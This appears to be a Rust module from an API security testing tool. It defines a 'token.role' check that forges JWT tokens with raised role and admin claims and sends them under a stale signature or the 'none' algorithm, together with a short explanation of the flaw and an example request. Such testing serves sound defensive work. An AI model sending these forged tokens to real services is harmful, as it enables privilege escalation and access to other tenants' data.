//! `token.role`: a forged token with a raised role.

use serde_json::json;

use super::{Claims, has_token, with_token};
use crate::attack::names::words;
use crate::attack::{Attack, Attempt, Ground, Scope};
use crate::model::call::Signature;

/// A forged token with a raised role.
pub(in crate::attack) struct Role;

const DOC: &str = r#"## What it does
Raises the role in the attacker's own token, leaves the tenant as it is, and makes the own call with foreign ids (or the own
list) with it: under the old signature and unsigned.

## Why teams fall for it
'Admin' is one word for two roles (RL-87): the operator's branch skips the tenant's filter, and the role is read from a token
that was decoded, not verified.

## A correct target
Verifies first: 401.

## Example
    GET /services/<foreign id>
    Authorization: Bearer <header>.<payload with "role":"superadmin">.<old signature>
"#;

impl Attack for Role {
    fn id(&self) -> &'static str {
        "token.role"
    }

    fn title(&self) -> &'static str {
        "a forged token with a raised role"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Middleware
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        if !has_token(ground) {
            return Vec::new();
        }
        let claims = raised(&ground.facts.token_claims);
        [
            ("old signature", Signature::Stale),
            ("unsigned", Signature::None("none".to_owned())),
        ]
        .into_iter()
        .map(|(variant, signature)| {
            with_token(ground.base(), claims.clone(), signature).titled(variant)
        })
        .collect()
    }
}

/// Every claim about rights raised; `role` and `is_admin` where there is none.
fn raised(names: &[String]) -> Claims {
    let mut claims: Claims = names
        .iter()
        .filter_map(|name| {
            let words = words(name);
            let has = |word: &str| words.iter().any(|w| w == word);
            let value = if has("roles") || has("permissions") || has("scopes") {
                json!(["superadmin"])
            } else if has("admin") || has("superuser") {
                json!(true)
            } else if has("role") {
                json!("superadmin")
            } else {
                return None;
            };
            Some((name.clone(), Some(value)))
        })
        .collect();
    if claims.is_empty() {
        claims.push(("role".to_owned(), Some(json!("superadmin"))));
        claims.push(("is_admin".to_owned(), Some(json!(true))));
    }
    claims
}
